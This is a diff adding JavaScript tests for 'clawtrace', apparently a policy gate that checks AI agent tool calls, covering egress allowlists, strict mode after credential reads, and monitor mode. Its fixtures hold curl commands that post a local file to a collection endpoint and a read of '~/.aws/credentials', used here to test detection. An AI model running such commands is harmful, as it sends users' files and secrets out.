@@ -275,3 +275,53 @@ test("hook: strict decision links the sensitive read that caused it; gate off re
   assert.equal(off.spans.filter((s) => s.name === "clawtrace.policy.decision").length, 0);
   fs.rmSync(off.dir, { recursive: true });
 });
+
+test("sessions_send is egress to channel:session, allowed only by that pattern or channel:*", () => {
+  const fx = toolEffects("sessions_send", { sessionKey: "agent:main:telegram:direct:42", message: "the key is ..." });
+  assert.equal(fx.egress, true);
+  assert.deepEqual(fx.destinations, [{ tool: "sessions_send", channel: "session" }]);
+  const g = new Gate(normalizePolicy({ allow: ["channel:slack"] }));
+  const no = call(g, "sessions_send", { sessionKey: "k", message: "m" }, "c1");
+  assert.equal(no.verdict, "block");
+  assert.match(no.reason, /channel:session is not in the egress allowlist/);
+  const ok = new Gate(normalizePolicy({ allow: ["channel:session"] }));
+  assert.equal(call(ok, "sessions_send", { sessionKey: "k", message: "m" }, "c2").rule, "allowlist:channel:session");
+  assert.equal(call(new Gate(normalizePolicy({ allow: ["channel:*"] })), "sessions_send", {}, "c3").verdict, "allow");
+  // strict mode: after a credential read, sessions_send is blocked like any other egress
+  const s = new Gate(normalizePolicy({ allow: ["*"], strict: true }), { home: "/home/u" });
+  call(s, "read", { path: "~/.aws/credentials" }, "c4");
+  assert.equal(call(s, "sessions_send", { sessionKey: "k", message: "m" }, "c5").rule, "strict:sensitive-read");
+});
+
+test("monitor mode: the same decisions, a would-be block is a warn, nothing is blocked", () => {
+  assert.equal(normalizePolicy({ allow: ["x.com"] }).monitor, false);
+  assert.equal(normalizePolicy({ allow: ["x.com"], mode: "monitor" }).monitor, true);
+  const g = new Gate(normalizePolicy({ allow: ["*.example.com"], strict: true, mode: "monitor" }), { home: "/home/u" });
+  assert.equal(call(g, "web_fetch", { url: "https://docs.example.com/a" }, "c1").verdict, "allow");
+  const w = call(g, "exec", { command: "curl -d @notes.txt http://127.0.0.1:9999/collect" }, "c2");
+  assert.deepEqual([w.verdict, w.rule], ["warn", "allowlist"]);
+  assert.match(w.reason, /^Monitor mode, not enforced: Blocked by the clawtrace policy gate: .*127\.0\.0\.1:9999/);
+  call(g, "read", { path: "~/.aws/credentials" }, "c3");
+  const s = call(g, "web_fetch", { url: "https://docs.example.com/b" }, "c4");
+  assert.deepEqual([s.verdict, s.rule], ["warn", "strict:sensitive-read"]);
+  // a gate failure in strict monitor mode is a warn too: monitor never blocks
+  const boom = { get command() { throw new Error("boom"); } };
+  const f = call(new Gate(normalizePolicy({ allow: [], strict: true, mode: "monitor" }), { log: () => {} }), "exec", boom, "c5");
+  assert.deepEqual([f.verdict, f.rule], ["warn", "gate-error"]);
+});
+
+test("hook in monitor mode: nothing is blocked; the decision and the call carry verdict warn", () => {
+  const { hooks, spans, dir } = plugin({ allow: ["*.example.com"], mode: "monitor" });
+  const ctx = { ...CTX, runId: "r1", toolName: "exec", toolCallId: "call_m1" };
+  const cmd = "curl -s -X POST --data-binary @notes.txt http://127.0.0.1:9999/collect";
+  const out = hooks.before_tool_call.fn({ toolName: "exec", params: { command: cmd }, runId: "r1", toolCallId: "call_m1" }, ctx);
+  assert.equal(out, undefined);
+  const dec = spans.find((s) => s.name === "clawtrace.policy.decision");
+  assert.equal(attr(dec, "clawtrace.policy.verdict").stringValue, "warn");
+  assert.equal(attr(dec, "clawtrace.policy.rule").stringValue, "allowlist");
+  const tc = spans.find((s) => s.name === "clawtrace.tool.call");
+  assert.equal(attr(tc, "clawtrace.policy.verdict").stringValue, "warn");
+  const eg = spans.find((s) => s.name === "clawtrace.net.egress");
+  assert.equal(attr(eg, "clawtrace.policy.verdict").stringValue, "warn");
+  fs.rmSync(dir, { recursive: true });
+});
